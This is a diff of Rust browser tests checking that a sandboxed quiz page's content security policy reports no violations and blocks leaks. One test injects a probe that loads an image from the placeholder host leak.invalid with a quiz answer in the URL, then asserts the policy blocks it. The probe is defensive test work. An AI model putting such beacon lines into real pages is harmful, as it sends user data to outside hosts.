@@ -167,34 +167,39 @@ async fn without_the_sandbox_there_is_only_the_leaflet(engine: Engine) {
     browser.end().await.unwrap();
 }
 
-/// Takes the longest quiz in a frame with the snippet's sandbox, with a script in the document that notes violations
-/// of the policy, and gives these.
-async fn violations(browser: &Browser, more: &str) -> serde_json::Value {
+/// The document in a frame with the snippet's sandbox, with a script in it that notes violations of the policy.
+fn probed(more: &str) -> Server {
     let probe = format!(
         "window.violations = []; addEventListener('securitypolicyviolation', (event) => \
          violations.push(event.effectiveDirective + ' ' + event.blockedURI)); {more}"
     );
     let document = std::fs::read_to_string(dist().join("pars-check.en.html")).unwrap();
     let probed = with_probe(&document, &probe).unwrap();
-    let server = server(&[("/probed.html", &probed), ("/host.html", &framed("probed.html"))]);
-    let visitor = Visitor::on_page(&browser.client, &server.address("/host.html")).await.unwrap();
-    // The style stands before the probe: had it been refused, it would not be among the sheets.
-    assert_eq!(visitor.run("return document.styleSheets.length").await.unwrap(), 1);
-    let (seen, _) = visitor.take(&case("V47").unwrap()).await.unwrap();
-    assert_eq!(seen.outcome.as_deref(), Some("surgical_discussion"));
-    visitor.press("restart").await.unwrap();
-    visitor.run("return window.violations").await.unwrap()
+    server(&[("/probed.html", &probed), ("/host.html", &framed("probed.html"))])
 }
 
 async fn a_whole_quiz_violates_no_policy(engine: Engine) {
+    let server = probed("");
     let browser = Browser::start_as(engine, None).await.unwrap();
-    assert_eq!(violations(&browser, "").await, json!([]));
+    let visitor = Visitor::on_page(&browser.client, &server.address("/host.html")).await.unwrap();
+    let (seen, _) = visitor.take(&case("V47").unwrap()).await.unwrap();
+    assert_eq!(seen.outcome.as_deref(), Some("surgical_discussion"));
+    visitor.press("restart").await.unwrap();
+    // The style stands before the probe: had it been refused, it would not be among the sheets.
+    let found = visitor.run("return [window.violations, document.styleSheets.length]").await.unwrap();
+    assert_eq!(found, json!([[], 1]));
     browser.end().await.unwrap();
 }
 
 async fn a_violation_would_be_noticed(engine: Engine) {
-    let browser = Browser::start_as(engine, None).await.unwrap();
-    let found = violations(&browser, "new Image().src = 'http://leak.invalid/?answer=35_49'").await;
-    assert!(found[0].as_str().unwrap().starts_with("img-src http://leak.invalid/"), "{found}");
+    let server = probed("new Image().src = 'http://leak.invalid/?answer=35_49'");
+    let proxy = Proxy::before(&server).await.unwrap();
+    let browser = Browser::start_as(engine, Some(&proxy)).await.unwrap();
+    let visitor = Visitor::on_page(&browser.client, &server.address("/host.html")).await.unwrap();
+    visitor.until("a violation", "return window.violations.length > 0").await.unwrap();
+    let found = visitor.run("return window.violations[0]").await.unwrap();
+    assert!(found.as_str().unwrap().starts_with("img-src http://leak.invalid/"), "{found}");
     browser.end().await.unwrap();
+    let leaked = proxy.requests().into_iter().filter(|request| request.contains("leak.invalid"));
+    assert_eq!(leaked.collect::<Vec<_>>(), Vec::<String>::new(), "the policy lets nothing out");
 }
